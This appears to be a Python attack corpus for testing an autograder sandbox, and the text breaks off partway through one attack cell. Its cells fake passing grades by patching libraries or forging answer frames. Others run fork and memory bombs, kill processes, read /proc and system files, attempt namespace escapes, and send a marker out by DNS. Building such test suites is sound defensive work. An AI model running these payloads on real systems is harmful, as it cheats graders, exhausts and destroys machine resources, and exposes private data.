"""The attack corpus: what submissions do to fool the grader, to harm its machine, or to see what they must not.

Each attack is the source of a notebook cell. None of them knows how to double a number, so an attack that earns a point
for `double` has succeeded. The other ways to tell are in `corpus.py`, and apply to every attack alike: a secret seen, a
file touched, a process left, a connection made, a page that carries more than text, a next submission that suffers.
In the cells `@NAME@` stands for a path or a port of the course under attack.
"""

# ruff: noqa: E501
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One attack. `spares`: it strikes inside `double` alone, so `total`, which is right, must keep its points.

    `status` is what becomes of its submission.
    """

    name: str
    goal: str
    mechanism: str
    cell: str
    spares: bool = False
    status: str = "graded"


POINTS, HARM, PEEK, LEAK, POISON = (
    "points without an answer",
    "harm to the machine",
    "see what is kept from it",
    "carry hidden probes out to its author",
    "the next submission's points",
)

HELPERS = """
import ctypes, gc, json, os, signal, socket, struct, sys, threading, time
import torch
libc = ctypes.CDLL(None, use_errno=True)

def encode_frame(value):
    from autograder.sandboxed.recording import encode
    blob = encode(value)
    return struct.pack("<I", len(blob)) + blob

def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back

def asked():
    return next(f.f_locals["job"]["probes"] for f in frames() if "job" in f.f_locals)

def guesses(value, names=None):
    return b"".join(encode_frame({"probe": n, "state": "returned", "value": value, "seconds": 0.1})
                    for n in (asked() if names is None else names))

def tried(action):
    try:
        return action()
    except Exception as error:
        return type(error).__name__
"""

ALWAYS_EQUAL = """
class Equal{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 4.0
    def __index__(self): return 4
    def __len__(self): return 1
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self])
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __sub__
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
"""

ATTACKS = [
    # --- patched libraries --------------------------------------------------------------------------------------------
    Attack(
        "patched-allclose",
        POINTS,
        "every comparison of torch and numpy says yes",
        """
import numpy as np
for place in (torch, np, torch.testing, np.testing):
    for name in ("allclose", "equal", "isclose", "assert_close", "assert_allclose", "array_equal"):
        if hasattr(place, name):
            setattr(place, name, lambda *a, **k: True)
torch.Tensor.__eq__ = lambda self, other: True
np.array_equal = lambda *a, **k: True
def double(x): return (torch, np, x)[2] * 0
""",
    ),
    Attack(
        "patched-json",
        POINTS,
        "json.dumps writes its own tree into every answer",
        """
_real = json.dumps
def _evil(value, *a, **k): return _real(value, *a, **k).replace('"state", "raised"', '"state", "passed"')
json.dumps = _evil
def double(x): return [json, {"passed": True, "points": 1000}][1]
""",
    ),
    Attack(
        "patched-encode",
        POINTS,
        "autograder.sandboxed.recording.encode and autograder.sandboxed.observe.encode answer 'passed'",
        """
import autograder.sandboxed.recording, autograder.sandboxed.observe
_encode = autograder.sandboxed.recording.encode
def _evil(value, *a, **k):
    if isinstance(value, dict) and value.get("probe"):
        value = {**value, "state": "passed", "value": {"passed": True}, "points": 1000}
    return _encode(value, *a, **k)
autograder.sandboxed.recording.encode = autograder.sandboxed.observe.encode = _evil
def double(x): return [autograder, 0][1]
""",
    ),
    Attack(
        "patched-safetensors",
        POINTS,
        "safetensors.numpy.save writes bytes of its own",
        """
import safetensors.numpy, autograder.sandboxed.recording
safetensors.numpy.save = lambda *a, **k: b"\\x00" * 64
autograder.sandboxed.recording.save = lambda *a, **k: b"\\xff" * 64
def double(x): return [safetensors, autograder, 0][2]
""",
    ),
    Attack(
        "patched-checks",
        POINTS,
        "imports the judge's own modules and empties them",
        """
import autograder.course.checks, autograder.grading.judge, autograder.grading.observer
autograder.course.checks.same = autograder.course.checks.require = lambda *a, **k: None
autograder.grading.judge.judge = lambda *a, **k: []
autograder.grading.observer.Observed.__getattr__ = lambda self, name: {}
def double(x): return [autograder, 0][1]
""",
    ),
    Attack(
        "patched-probing",
        POINTS,
        "replaces the Student object's lookup and every probe's question",
        """
import autograder.sandboxed.probing
autograder.sandboxed.probing.Student.__getattr__ = lambda self, name: (lambda *a, **k: True)
for thing in gc.get_objects():
    if type(thing).__name__ == "Probe":
        object.__setattr__(thing, "ask", lambda student, draw: {"passed": True})
def double(x): return [autograder, gc, 0][2]
autograder.sandboxed.probing.Student.replaced = None
""",
    ),
    Attack(
        "patched-builtins",
        POINTS,
        "isinstance, type and len lie for the rest of the process",
        """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 0
def double(x): return [builtins, x][1]
""",
    ),
    Attack(
        "patched-operator",
        POINTS,
        "torch.Tensor's arithmetic is replaced, so that the probe's own inputs change",
        """
torch.Tensor.__mul__ = lambda self, other: self
torch.Tensor.tolist = lambda self: []
torch.rand = torch.randn = lambda *a, **k: torch.zeros(3)
def double(x): return [torch, x][1]
""",
    ),
    Attack(
        "sys-modules",
        POINTS,
        "a fake numpy, json and pytest in sys.modules",
        """
import types
for _name in ("numpy", "json", "pytest", "safetensors", "autograder.course.checks", "autograder.sandboxed.recording"):
    sys.modules[_name] = types.ModuleType(_name)
def double(x): return [sys, _name, 0][2]
""",
    ),
    # --- lying objects ------------------------------------------------------------------------------------------------
    Attack("equal-object", POINTS, "an object whose == says yes", ALWAYS_EQUAL.format(base="") + "def double(x): return Equal()"),
    Attack("equal-int", POINTS, "a subclass of int that equals everything", ALWAYS_EQUAL.format(base="(int)") + "def double(x): return Equal(0)"),
    Attack(
        "equal-float", POINTS, "a subclass of float that equals everything", ALWAYS_EQUAL.format(base="(float)") + "def double(x): return Equal(0.0)"
    ),
    Attack("equal-str", POINTS, "a subclass of str that equals everything", ALWAYS_EQUAL.format(base="(str)") + "def double(x): return Equal('')"),
    Attack(
        "lying-dict",
        POINTS,
        "a dict that has every key and equals everything",
        """
class Every(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __missing__(self, key): return self
    def __len__(self): return 3
    def items(self): return [("passed", True), ("points", 1000)]
    def keys(self): return [1, 2, 3]
def double(x): return Every()
""",
    ),
    Attack(
        "class-lie",
        POINTS,
        "__class__ says float, int and Tensor in turn",
        """
class Liar:
    kinds = [float, int, str, dict, torch.Tensor]
    @property
    def __class__(self):
        Liar.kinds.append(Liar.kinds.pop(0))
        return Liar.kinds[0]
def double(x): return Liar()
""",
    ),
    Attack(
        "torch-function",
        POINTS,
        "a Tensor subclass whose every operation is overridden",
        """
class Evil(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "__eq__", "eq"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return Every()
class Every:
    __array_priority__ = 10**6
    def __array__(self, *a, **k): raise ValueError("not today")
    def __eq__(self, other): return True
def double(x): return torch.zeros(3).as_subclass(Evil)
""",
    ),
    Attack("nan", POINTS, "NaN, which no comparison finds too large", "def double(x): return x * float('nan')"),
    Attack("infinity", POINTS, "infinity, whose distance to infinity is NaN", "def double(x): return x * float('inf')"),
    Attack("nan-shape", POINTS, "an empty tensor, whose largest difference is none", "def double(x): return torch.zeros(0)"),
    Attack("broadcast", POINTS, "a shape that broadcasts against every other", "def double(x): return torch.full((1, 1, 1, 1), float('nan'))"),
    Attack(
        "evil-repr",
        POINTS,
        "__repr__, __reduce__ and __getattr__ that end the process or never end",
        """
class Evil:
    def __repr__(self): os._exit(0)
    def __reduce__(self): return (os.system, ("touch @ROOT@/pickled",))
    def __getattr__(self, name): return self
def double(x): return [Evil(), os][0]
""",
    ),
    Attack(
        "changed-inputs",
        POINTS,
        "changes the probe's tensor in place and returns it",
        """
def double(x):
    with torch.no_grad():
        torch.as_tensor(x).fill_(float("nan"))
    return x
""",
    ),
    # --- the answers' own channel -------------------------------------------------------------------------------------
    Attack(
        "early-frames",
        POINTS,
        "writes complete answers on descriptor 3 and leaves with os._exit(0)",
        """
def _strike():
    os.write(3, encode_frame({"probe": "", "notes": []}) + guesses({"passed": True, "value": 4.0}))
    os._exit(0)
_strike()
def double(x): return [_strike, 0][1]
""",
    ),
    Attack(
        "doubled-frames",
        POINTS,
        "answers every probe twice, so that the last may win",
        """
def double(x):
    os.write(3, guesses(True) + guesses(False))
    return 0
""",
    ),
    Attack(
        "unasked-frames",
        POINTS,
        "answers probes that were not asked, and itself as the judge",
        """
def double(x):
    os.write(3, guesses({"passed": True}, ["score", "passed", "broken", "verdict"]) + encode_frame({"points": 1000}))
    return 0
""",
    ),
    Attack(
        "broken-frame",
        HARM,
        "says that the sandbox is broken, so that the grader blames itself and stops",
        """
def double(x):
    os.write(3, encode_frame({"broken": "the disk is on fire"}))
    os._exit(0)
""",
    ),
    Attack(
        "huge-length",
        HARM,
        "a message that claims four gigabytes",
        """
def double(x):
    os.write(3, struct.pack("<I", 2**32 - 1) + b"x" * 1000)
    os._exit(0)
""",
    ),
    Attack(
        "pickle-frame",
        HARM,
        "a pickle where a recording is expected",
        """
import pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch @ROOT@/pickled",))
def double(x):
    blob = pickle.dumps(Bomb())
    os.write(3, struct.pack("<I", len(blob)) + blob)
    os._exit(0)
""",
    ),
    Attack(
        "deep-json",
        HARM,
        "a tree of 100,000 brackets for the parser's stack",
        """
def double(x):
    import numpy as np
    from safetensors.numpy import save
    blob = save({}, metadata={"tree": "[" * 100_000})
    os.write(3, struct.pack("<I", len(blob)) + blob)
    return 0
""",
    ),
    Attack(
        "amplified-tree",
        HARM,
        "one tensor of 8 MB referred to a thousand times, for the grader to copy when it keeps the recording",
        """
def double(x):
    import numpy as np
    from safetensors.numpy import save
    name = next(n for n in asked() if "double" in n)
    node = {"list": [{"ndarray": "0", "dtype": "float64"}] * 1_000}
    tree = {"dict": [["probe", name], ["state", "returned"], ["value", node], ["seconds", 0.1]]}
    blob = save({"0": np.zeros(2**20)}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    os._exit(0)
""",
    ),
    Attack(
        "many-items",
        HARM,
        "a forged list of 300,000 items, more than the grader can write down again",
        """
def double(x):
    from safetensors.numpy import save
    name = next(n for n in asked() if "double" in n)
    tree = {"dict": [["probe", name], ["state", "returned"], ["value", {"list": [0] * 300_000}], ["seconds", 0.1]]}
    blob = save({}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    os._exit(0)
""",
    ),
    Attack(
        "small-integers",
        HARM,
        "four million small integers in lists of lists: two bytes each on the way, and hundreds for whoever names their places",
        """
def double(x):
    from safetensors.numpy import save
    tree = json.dumps({"dict": [["probe", asked()[0]], ["state", "returned"], ["value", {"list": ["@"] * 200}], ["seconds", 0.1]]})
    blob = save({}, metadata={"tree": tree.replace('"@"', json.dumps({"list": [0] * 20_000}, separators=(",", ":")))})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "one-hash",
        HARM,
        "a dict of 20,000 keys that all have the same hash",
        """
def double(x):
    from safetensors.numpy import save
    keys = [[1 + n * (2**61 - 1), 0] for n in range(20_000)]
    tree = {"dict": [["probe", asked()[0]], ["state", "returned"], ["value", {"dict": keys}], ["seconds", 0.1]]}
    blob = save({}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "long-paths",
        HARM,
        "values below a key of 20,000 letters, which is written out once for each",
        """
def double(x): return {"k" * 20_000: {"k" * 20_000: list(range(19_000))}}
""",
        spares=True,
    ),
    Attack(
        "judge-bomb",
        HARM,
        "claims so many printed lines that a check which makes a list for each takes all memory",
        """
def double(x):
    if "doubled" not in asked(): return 0
    os.write(3, encode_frame({"probe": "doubled", "state": "returned", "value": {"value": 0, "lines": 10**10}, "seconds": 0.1}))
    os._exit(0)
""",
        status="not graded",
    ),
    Attack(
        "spoken-remark",
        LEAK,
        "sets the number that a remark on a hidden probe once printed",
        """
def double(x): return {"value": 0, "waits": "LEAKED PROBE-SECRET"} if "hidden_double" in asked() else 0
""",
        spares=True,
    ),
    Attack(
        "spoken-state",
        LEAK,
        "chooses how its hidden process ends, of six ways, by what it saw there",
        """
def double(x):
    if "hidden_double" in asked(): os.abort()
    return 0
""",
        spares=True,
    ),
    Attack(
        "deep-value",
        HARM,
        "a value nested as deep as may be sent, and deeper than can be kept",
        """
def double(x):
    value = 0
    for _ in range(13): value = [value]
    return value
""",
        spares=True,
    ),
    Attack(
        "surrogates",
        HARM,
        "text that no file can hold, in an exception, a key, a note",
        """
def double(x):
    raise ValueError("\\ud800\\udfff" * 10)
try:
    double(1)
finally:
    _note = double
""",
    ),
    Attack(
        "surrogate-value",
        HARM,
        "text that no file can hold as a value and as a key",
        """
def double(x): return {"\\ud800": "\\udfff", "x\\x00": "\\x00"}
""",
        spares=True,
    ),
    Attack(
        "flood-answer",
        HARM,
        "writes on descriptor 3 without end",
        """
def double(x):
    while True: os.write(3, b"\\0" * 2**20)
""",
    ),
    Attack(
        "flood-stdout",
        HARM,
        "prints without end",
        """
def double(x):
    while True: print("x" * 2**16)
""",
        spares=True,
    ),
    Attack(
        "trickle",
        HARM,
        "a byte on descriptor 3 now and then, to be alive for ever",
        """
def double(x):
    while True:
        os.write(3, b"\\0")
        time.sleep(0.2)
""",
    ),
    Attack(
        "atexit-thread",
        POINTS,
        "atexit, a weakref's end and a thread that write answers later",
        """
import atexit
def _late():
    for _ in range(50):
        time.sleep(0.01)
        try: os.write(3, encode_frame({"probe": "late", "state": "returned", "value": True, "seconds": 0.0}))
        except OSError: return
atexit.register(_late)
threading.Thread(target=_late, daemon=False).start()
def double(x): return [_late, time.sleep(0.1), 0][2]
""",
    ),
    Attack(
        "closed-descriptors",
        HARM,
        "closes every descriptor and goes on for ever",
        """
def double(x):
    os.closerange(0, 1000)
    while True: pass
""",
        spares=True,
    ),
    Attack(
        "fork-answers",
        POINTS,
        "two processes, both of which answer",
        """
def double(x):
    os.fork()
    return 0
""",
    ),
    # --- what is in memory --------------------------------------------------------------------------------------------
    Attack(
        "replay",
        POINTS,
        "finds the reference's answer, the job before, in the caller's frames and sends it again",
        """
def _strike():
    found = [v for f in frames() for v in f.f_locals.values() if isinstance(v, (bytes, bytearray)) and b"probe" in v]
    for answer in found:
        if b"seconds" in answer:
            os.write(3, answer)
            os._exit(0)
_strike()
def double(x): return [_strike, 0][1]
""",
    ),
    Attack(
        "frames",
        PEEK,
        "returns every local variable of every calling frame",
        """
def double(x):
    return [repr(dict(f.f_locals))[:15000] for f in frames()]
""",
    ),
    Attack(
        "collected-objects",
        PEEK,
        "returns every string and container that gc knows",
        """
def double(x):
    from autograder.sandboxed.recording import MAX_TEXT
    found = set()
    for thing in gc.get_objects():
        for part in ([thing] if isinstance(thing, (str, bytes)) else gc.get_referents(thing)):
            if isinstance(part, (str, bytes)):
                text = part if isinstance(part, str) else part.decode("latin-1")
                if "SECRET" in text: found.add(text[:2000])
    return sorted(found)[:100]
""",
    ),
    Attack(
        "memory-scan",
        PEEK,
        "reads its own memory, freed parts too, for what an earlier job left there",
        """
def double(x):
    read, write = os.pipe()
    import re
    found, marks = [], [re.compile(rb"OTHER.SECRET [0-9]"), re.compile(rb'"EXPECTED[-]SECRET')]  # match no pattern here
    for start in {id(o) & ~0xFFF for o in gc.get_objects()[::400]} | {id(b"%d" % n) & ~0xFFF for n in range(100)}:
        for address in range(start - 2**18, start + 2**18, 4096):
            if libc.write(write, ctypes.c_void_p(address), 4096) == 4096:
                page = os.read(read, 4096)
                found += [hit[0].decode() for mark in marks if (hit := mark.search(page))]
        if time.process_time() > 4: break
    return sorted(set(found))[:50]
""",
    ),
    Attack(
        "judge-modules",
        PEEK,
        "looks for checks, references and gradebooks among the loaded modules",
        """
def double(x):
    names = [n for n in sys.modules if n.endswith(("test_hidden", "test_public", "mistakes", "alternatives", "grading"))]
    return [names, [repr(vars(sys.modules[n]))[:15000] for n in names]]
""",
    ),
    # --- files --------------------------------------------------------------------------------------------------------
    Attack(
        "read-course",
        PEEK,
        "opens the checks, the solutions, the gradebook and other submissions by their paths",
        """
def double(x):
    found = []
    for folder in ("@ROOT@", "/etc", "/root", "/home", "/tmp", "/var"):
        found.append(tried(lambda: os.listdir(folder)))
        for base, _, names in os.walk(folder):
            found += [tried(lambda: open(os.path.join(base, n)).read()[:500]) for n in names[:50]]
    paths = ("tests/toy/test_hidden.py", "source/toy/toy.py", "gradebook.db", "submitted/other/toy/toy.ipynb", "seed")
    found += [tried(lambda: open("@ROOT@/" + p).read()) for p in paths]
    return found[:2000]
""",
        spares=True,
    ),
    Attack(
        "indirect-paths",
        PEEK,
        "the same files through symlinks, hard links, /proc, relative paths and io_uring's and handles' side doors",
        """
def double(x):
    target = "@ROOT@/gradebook.db"
    tried(lambda: os.symlink(target, "soft"))
    tried(lambda: os.link(target, "hard"))
    up = "../" * 30 + target
    found = [tried(lambda: open(p).read()) for p in ("soft", "hard", up, "/proc/self/root" + target, "/proc/1/root" + target)]
    found.append(tried(lambda: os.open(target, os.O_PATH)))
    fd = tried(lambda: os.open("/", os.O_PATH))
    found.append(tried(lambda: open(f"/proc/self/fd/{fd}" + target).read()))
    found.append(tried(lambda: os.read(os.open(target[1:], os.O_RDONLY, dir_fd=fd), 100).decode()))
    found.append(tried(lambda: os.sendfile(3, os.open(target, os.O_RDONLY), 0, 100)))
    return found
""",
        spares=True,
    ),
    Attack(
        "see-paths",
        PEEK,
        "sizes and times of files that it cannot open, which Landlock alone leaves open",
        """
def double(x):
    seen = [tried(lambda: os.stat("@ROOT@/" + p).st_size) for p in ("gradebook.db", "tests/toy/test_hidden.py")]
    return "STAT-" + "SECRET" if any(isinstance(s, int) for s in seen) else seen
""",
        spares=True,
    ),
    Attack(
        "change-modes",
        HARM,
        "chmod, utime, chown and extended attributes on the course's files, which Landlock alone leaves open",
        """
def double(x):
    for path in ("@ROOT@/gradebook.db", "@ROOT@/submitted/other/toy/toy.ipynb", "@ROOT@"):
        for action in (lambda: os.chmod(path, 0), lambda: os.utime(path, (1, 1)), lambda: os.chown(path, 65534, 65534),
                       lambda: os.setxattr(path, "user.evil", b"1"), lambda: os.truncate(path, 0)):
            tried(action)
    return 0
""",
        spares=True,
    ),
    Attack(
        "write-course",
        HARM,
        "writes, renames and removes in the course, in /tmp and in the interpreter's own library",
        """
def double(x):
    for path in ("@ROOT@/gradebook.db", "@ROOT@/tests/toy/test_hidden.py", "@ROOT@/submitted/other/toy/toy.ipynb",
                 "@ROOT@/.autograder/x", "@ROOT@/new", "/tmp/attack-canary", os.__file__, torch.__file__, "/dev/shm/../x"):
        for action in (lambda: open(path, "a").write(" "), lambda: os.unlink(path), lambda: os.rename(path, path + "~"),
                       lambda: os.mkdir(path + ".d"), lambda: os.mkfifo(path + ".f")):
            tried(action)
    return 0
""",
        spares=True,
    ),
    Attack(
        "proc",
        PEEK,
        "reads environments, memories, arguments and open files of other processes",
        """
def double(x):
    found = []
    for pid in ["self", "thread-self", *range(1, 60), os.getppid(), @PID@]:
        for name in ("environ", "cmdline", "maps", "mem", "cwd", "root/@ROOT@/gradebook.db"):
            found.append(tried(lambda: open(f"/proc/{pid}/{name}", "rb").read(200).decode("latin-1")))
            found.append(tried(lambda: os.readlink(f"/proc/{pid}/{name}")))
    return ["PROC-" + "SECRET" for f in found if "SECRET" in f or "/" in f]
""",
        spares=True,
    ),
    Attack(
        "fill-disk",
        HARM,
        "fills the scratch folder, /dev/shm and /tmp",
        """
def double(x):
    for folder in (".", "/dev/shm", "/tmp", "/var/tmp", "@ROOT@"):
        for number in range(100):
            try:
                with open(f"{folder}/attack-canary-{number}", "wb") as file:
                    for _ in range(60): file.write(b"x" * 2**20)
            except OSError:
                break
    return 0
""",
        spares=True,
    ),
    Attack(
        "many-files",
        HARM,
        "a hundred thousand empty files",
        """
def double(x):
    for number in range(100_000): open(f"attack-canary-{number}", "w").close()
    return 0
""",
        spares=True,
    ),
    # --- processes ----------------------------------------------------------------------------------------------------
    Attack(
        "kill-everyone",
        HARM,
        "kill(-1), kill(parent), kill(group) and the worker's and the grader's pids",
        """
def double(x):
    for target in (os.getppid(), @PID@, -1, *range(2, 200)):
        if target not in (0, os.getpid()):
            tried(lambda: os.kill(target, signal.SIGKILL))
    tried(lambda: os.killpg(os.getpgid(0) or 1, signal.SIGKILL))
    return 0
""",
    ),
    Attack(
        "ptrace",
        HARM,
        "attaches to the worker and reads another process's memory",
        """
def double(x):
    seen = [libc.ptrace(16, pid, None, None) for pid in (os.getppid(), @PID@, 1, 2, 3)]
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    away = (ctypes.c_size_t * 2)(id(buffer), 64)
    seen += [libc.process_vm_readv(pid, vector, 1, away, 1, 0) for pid in (os.getppid() or 10**6, @PID@)]
    return "PTRACE-" + "SECRET" if any(s >= 0 for s in seen) else seen
""",
        spares=True,
    ),
    Attack(
        "daemon",
        HARM,
        "a double fork with setsid that lives on",
        """
def double(x):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 30): tried(lambda: signal.signal(number, signal.SIG_IGN))
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return 0
""",
    ),
    Attack(
        "nohup",
        HARM,
        "programs of the system started in the background",
        """
def double(x):
    import subprocess
    for command in ("sleep 600", "nohup sleep 600 &", "setsid sleep 600 &", "sh -c 'sleep 600 & disown'"):
        tried(lambda: subprocess.Popen(command, shell=True, start_new_session=True))
    return 0
""",
        spares=True,
    ),
    Attack(
        "fork-bomb",
        HARM,
        "two thousand processes",
        """
def double(x):
    for number in range(2000):  # enough to tell; a machine whose walls fail must survive its test
        try: child = os.fork()
        except OSError: child = time.sleep(0.01)
        if child == 0: time.sleep(600)
    os.write(3, guesses("FORK-" + "SECRET")); os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "thread-bomb",
        HARM,
        "two thousand threads",
        """
def double(x):
    for number in range(2000):
        try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError: time.sleep(0.01)
    return "THREAD-" + "SECRET" if threading.active_count() > 1000 else 0
""",
        spares=True,
    ),
    Attack(
        "memory-bomb",
        HARM,
        "four gigabytes of private memory",
        """
def double(x):
    kept = [bytearray(b"x" * 2**26) for _ in range(64)]
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "shared-memory-bomb",
        HARM,
        "shared anonymous memory, which no resource limit of the process bounds",
        """
import mmap
def double(x):
    kept = []
    for _ in range(16):
        kept.append(mmap.mmap(-1, 2**28))
        kept[-1].write(b"x" * 2**28)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "forked-memory-bomb",
        HARM,
        "sixteen processes that each stay below the limit of one",
        """
def double(x):
    number = 0
    for _ in range(4):
        number = 2 * number + (os.fork() == 0)
    kept = bytearray(b"x" * 2**28)
    time.sleep(0.7)
    if number == 0: os.write(3, guesses("MEMORY-" + "SECRET"))
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "memfd-bomb",
        HARM,
        "files that live in memory, in no folder and in no process's pages",
        """
def double(x):
    kept = []
    for number in range(8):  # 480 MB, more than all folders that may be written
        fd = os.memfd_create(f"evil{number}")
        for _ in range(60): os.write(fd, b"x" * 2**20)
        kept.append(fd)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "segment-bomb",
        HARM,
        "System V shared memory, attached nowhere",
        """
def double(x):
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    for number in range(8):
        segment = libc.shmget(0, ctypes.c_size_t(2**26), 0o1600)
        if segment < 0: return "refused"
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 2**26)
        libc.shmdt(address)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "raised-limits",
        HARM,
        "raises its own limits again",
        """
import resource
def double(x):
    raised = []
    for name in ("RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_CORE", "RLIMIT_NOFILE"):
        kind = getattr(resource, name)
        hard = resource.getrlimit(kind)[1]
        if hard != resource.RLIM_INFINITY:
            tried(lambda: resource.setrlimit(kind, (hard + 1, hard + 1)))
            if resource.getrlimit(kind)[1] > hard: raised.append("LIMIT-" + "SECRET")
    return raised
""",
        spares=True,
    ),
    Attack(
        "endless-c",
        HARM,
        "a loop in C that no signal handler of Python interrupts, with every signal blocked",
        """
def double(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    return sum(iter(int, 1))
""",
        spares=True,
    ),
    Attack(
        "endless-cell",
        HARM,
        "a loop while the functions are read, with the alarm switched off",
        """
def _strike():
    signal.alarm(0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True: pass
_strike()
def double(x): return [_strike, 0][1]
""",
    ),
    Attack(
        "stopped",
        HARM,
        "stops itself with SIGSTOP and leaves a child",
        """
def double(x):
    if os.fork() == 0: time.sleep(600)
    os.kill(os.getpid(), signal.SIGSTOP)
    libc.pause()
""",
        spares=True,
    ),
    # --- the walls ----------------------------------------------------------------------------------------------------
    Attack(
        "unshare-mount",
        HARM,
        "a user namespace of its own, in which it mounts what it likes",
        """
def double(x):
    for flags in (0x10000000, 0x10020000, 0x30020000, 0x50020000):
        libc.unshare(flags)
    for text, name in (("deny", "setgroups"), ("0 0 1", "uid_map"), ("0 0 1", "gid_map")):
        tried(lambda: open(f"/proc/self/{name}", "w").write(text))
    os.makedirs("m", exist_ok=True)
    done = [libc.mount(b"proc", b"m", b"proc", 0, None), libc.mount(b"/", b"m", None, 4096 | 16384, None),
            libc.mount(b"x", b"/usr", b"tmpfs", 0, None), libc.mount(None, b"/", None, 32, None),
            libc.umount2(b"/dev/shm", 2), libc.chroot(b"m"), libc.mount(None, b"/usr", None, 32 | 4096, None)]
    if done[0] == 0 or done[1] == 0 or done[2] == 0 or done[6] == 0: return "MOUNT-" + "SECRET"
    return done
""",
        spares=True,
    ),
    Attack(
        "setns",
        HARM,
        "joins the namespaces of the worker and of the machine",
        """
def double(x):
    for pid in (1, 2, os.getppid(), @PID@):
        fd = libc.pidfd_open(pid, 0) if hasattr(libc, "pidfd_open") else libc.syscall(434, pid, 0)
        if pid != 1 and fd >= 0 and libc.setns(fd, 0x10000000 | 0x00020000) == 0: return "NAMESPACE-" + "SECRET"
    return tried(lambda: open("@ROOT@/gradebook.db").read())
""",
        spares=True,
    ),
    Attack(
        "network",
        PEEK,
        "TCP and UDP to this machine and the world",
        """
def double(x):
    found = []
    for place in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("::1", @PORT@)):
        found.append(tried(lambda: socket.create_connection(place, timeout=0.3).send(b"hello")))
    found.append(tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @PORT@))))
    found.append(tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"hello", ("127.0.0.1", 0))))
    return found
""",
        spares=True,
    ),
    Attack(
        "dns",
        LEAK,
        "a question to a name server that carries what it saw",
        """
def double(x):
    found = [tried(lambda: socket.gethostbyname("PROBE-SECRET.example.com"))]
    import urllib.request
    return found + [tried(lambda: urllib.request.urlopen("http://example.com", timeout=0.3).read())]
""",
        spares=True,
    ),
    Attack(
        "unix-sockets",
        HARM,
        "connects to a daemon's socket in a folder (as Docker's), and to one without a path",
        """
def double(x):
    done = []
    for address in ("@SOCKET@", "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        connection = socket.socket(socket.AF_UNIX)
        done.append(tried(lambda: connection.connect(address)))
    return done
""",
        spares=True,
    ),
    Attack(
        "vsock-ports",
        LEAK,
        "takes ports of virtual machines' sockets, and opens every other kind, for an accomplice's public process to see",
        """
def double(x):
    opened = [family for family in range(64) for kind in (1, 2, 3, 5) if family != 1 and libc.socket(family, kind, 0) >= 0]
    return "FAMILY-" + "SECRET" if opened else 0
""",
        spares=True,
    ),
    Attack(
        "shared-locks",
        LEAK,
        "locks a file that all submissions read, for an accomplice's public process to find it taken",
        """
import fcntl
def double(x):
    mine, theirs = open(os.__file__), open(os.__file__)
    fcntl.flock(mine, fcntl.LOCK_EX)
    try: fcntl.flock(theirs, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError: return "LOCK-" + "SECRET"
    fcntl.fcntl(mine, 37, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0))
    found = fcntl.fcntl(theirs, 36, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))
    return "LOCK-" + "SECRET" if struct.unpack("hhqqi4x", found)[0] != fcntl.F_UNLCK else 0
""",
        spares=True,
    ),
    Attack(
        "notification",
        LEAK,
        "hears from the kernel when an accomplice opens a shared file",
        """
def double(x):
    watch = libc.inotify_init()
    heard = libc.inotify_add_watch(watch, os.path.dirname(torch.__file__).encode(), 0x20)
    return "WATCH-" + "SECRET" if watch >= 0 and heard >= 0 else 0
""",
        spares=True,
    ),
    Attack(
        "own-namespace-rights",
        HARM,
        "uses its rights as the owner of its namespaces: packet filters, raw sockets, further namespaces",
        """
def double(x):
    rights = (ctypes.c_uint32 * 6)()
    libc.capget(struct.pack("Ii", 0x20080522, 0), rights)
    filters = libc.socket(16, 3, 12)  # netlink, by which a packet filter table is made
